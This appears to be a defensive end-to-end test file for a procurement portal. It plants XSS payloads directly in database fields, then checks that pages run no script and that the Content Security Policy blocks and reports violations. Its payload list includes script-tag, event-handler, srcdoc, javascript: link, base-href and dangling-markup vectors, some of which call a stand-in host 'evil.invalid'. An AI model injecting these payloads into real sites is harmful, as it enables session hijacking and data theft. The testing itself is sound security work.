import pg from 'pg'
import type { Page, Request } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { useBrowser } from './browser.ts'
import { enter } from './planner.ts'
import { CUSTOMER_HEAD, OPERATOR } from './sign-in.ts'
import { currentPortal } from './test-portal.ts'

/**
 * Defence in depth against XSS: hostile texts are written directly to the database, bypassing forms and the sanitiser;
 * visitors open the pages, and no script runs. Then pages are visited in turn: the browser reports no CSP violation.
 */
const portal = useBrowser()
const EVIL = 'http://evil.invalid'
/** A payload that runs calls `xssRan`; one that loads a resource requests it from another host. */
const PAYLOADS = [
  `<script>xssRan('script')</script>`,
  `<img src=x onerror="xssRan('onerror')">`,
  `<script src="${EVIL}/evil.js"></script>`,
  `<base href="${EVIL}/"><script src=lib.js></script>`,
  `<svg onload="xssRan('svg')"></svg>`,
  `<iframe srcdoc="<script>parent.xssRan('srcdoc')</script>"></iframe>`,
  `<a href="javascript:xssRan('link')">ссылка</a>`,
  `<img src="${EVIL}/f?leak=`,
]
const HOSTILE = `Текст ${PAYLOADS.join(' ')}`

/** Texts of public pages: where each is stored, and which page shows it. */
const FIELDS: readonly { table: string; column: string; where: string; path: (id: number) => string }[] = [
  { table: 'post', column: 'body_ru', where: 'published_at <= now()', path: (id) => `/news/${id}` },
  { table: 'post', column: 'title_ru', where: 'published_at <= now()', path: (id) => `/news/${id}` },
  { table: 'faq', column: 'answer_ru', where: 'is_public', path: () => '/faq' },
  { table: 'faq', column: 'question_ru', where: 'is_public', path: () => '/faq' },
  { table: 'menu_item', column: 'body_ru', where: 'is_public', path: (id) => `/pages/${id}` },
  { table: 'organization', column: 'name_ru', where: 'is_customer', path: (id) => `/organizations/${id}` },
  { table: 'organization', column: 'address_ru', where: 'is_customer', path: (id) => `/organizations/${id}` },
  {
    table: 'announcement',
    column: 'name_ru',
    where: 'id in (select id from public_announcement)',
    path: (id) => `/announcements/${id}`,
  },
  {
    table: 'lot',
    column: 'name_ru',
    where: 'id in (select id from public_lot)',
    path: (id) => `/lots/${id}`,
  },
]

let db: pg.Pool
let undo: (() => Promise<unknown>)[] = []

beforeAll(() => {
  db = new pg.Pool({ connectionString: currentPortal().databaseUrl, max: 1 })
})
afterAll(async () => {
  for (const back of undo) await back()
  await db.end()
})

/** Replaces the text in the first row and keeps the old one for restoring. */
async function plant({ table, column, where }: (typeof FIELDS)[number]): Promise<number> {
  const { rows } = await db.query(
    `select id, ${column} as old from ${table} where ${where} and ${column} is not null order by id limit 1`,
  )
  const { id, old } = rows[0]
  const set = (text: string) => db.query(`update ${table} set ${column} = $1 where id = $2`, [text, id])
  await set(HOSTILE)
  undo = [() => set(old), ...undo]
  return Number(id)
}

/** Records the payloads that ran and the requests to the hostile host. */
async function watch(page: Page): Promise<string[]> {
  const seen: string[] = []
  await page.exposeFunction('xssRan', (name: string) => void seen.push(name))
  page.on('request', (request: Request) => {
    if (request.url().startsWith(EVIL)) seen.push(request.url())
  })
  return seen
}

const reports = (page: Page) => {
  const seen: string[] = []
  page.on('request', (request) => {
    if (request.url().endsWith('/api/csp-reports')) seen.push(request.postData() ?? '')
  })
  page.on('console', (message) => {
    if (/Content Security Policy|TrustedHTML/.test(message.text())) seen.push(message.text())
  })
  return seen
}

describe('hostile texts in the database', () => {
  it(`run 0 of ${PAYLOADS.length * FIELDS.length}`, { timeout: 240_000 }, async () => {
    const pages = new Set<string>()
    for (const field of FIELDS) pages.add(field.path(await plant(field)))
    const page = await (await portal.newContext()).newPage()
    const seen = await watch(page)
    for (const path of pages) {
      await page.goto(path)
      await page.getByText('Текст').first().waitFor()
      // Click the `javascript:` link if it was rendered.
      for (const link of await page.getByRole('link', { name: 'ссылка', exact: true }).all())
        await link.click({ timeout: 2_000, noWaitAfter: true }).catch(() => {})
    }
    expect(seen).toEqual([])
    // Control: without the sanitiser and React these payloads do run, so `watch` detects them.
    const control = await (await portal.newContext()).newPage()
    const ran = await watch(control)
    await control.setContent(`<p>${PAYLOADS.slice(0, 2).join('')}</p>`)
    await expect.poll(() => ran.length).toBeGreaterThan(0)
    portal.forgiveErrors()
  })
})

describe('the Content Security Policy', () => {
  it('allows only styles from files, and reports each violation', async () => {
    const page = await portal.open('/lots')
    const seen = reports(page)
    const color = await page.evaluate(() => {
      document.body.setAttribute('style', 'color: rgb(1, 2, 3)')
      const style = document.createElement('style')
      style.textContent = 'body { background: rgb(4, 5, 6) }'
      document.head.append(style)
      const { color: ink, backgroundColor } = getComputedStyle(document.body)
      return [ink, backgroundColor]
    })
    expect(color).not.toContain('rgb(1, 2, 3)')
    expect(color).not.toContain('rgb(4, 5, 6)')
    await expect.poll(() => seen.filter((report) => report.includes('style-src')).length).toBeGreaterThan(1)
    portal.forgiveErrors()
  })

  it('blocks nothing on public pages', { timeout: 240_000 }, async () => {
    const page = await (await portal.newContext()).newPage()
    const seen = reports(page)
    for (const path of [
      '/',
      '/announcements',
      '/lots',
      '/statistics',
      '/news',
      '/faq',
      '/organizations',
      '/login',
    ])
      await page.goto(path, { waitUntil: 'networkidle' })
    expect(seen).toEqual([])
  })

  it.each([
    [
      CUSTOMER_HEAD,
      ['/cabinet', '/cabinet/plans', '/cabinet/plan-items', '/cabinet/statistics', '/cabinet/profile'],
    ],
    [
      OPERATOR,
      [
        '/operator',
        '/operator/journal',
        '/operator/state',
        '/operator/posts/new',
        '/cabinet/supplier-experience',
      ],
    ],
  ])('blocks nothing in the cabinet of %s', { timeout: 240_000 }, async (login, paths) => {
    const page = await enter(await portal.newContext(), paths[0] as string, login)
    const seen = reports(page)
    for (const path of paths) {
      await page.goto(path)
      await page.getByRole('heading', { level: 1 }).first().waitFor()
      await page.waitForLoadState('load')
    }
    expect(seen).toEqual([])
  })
})
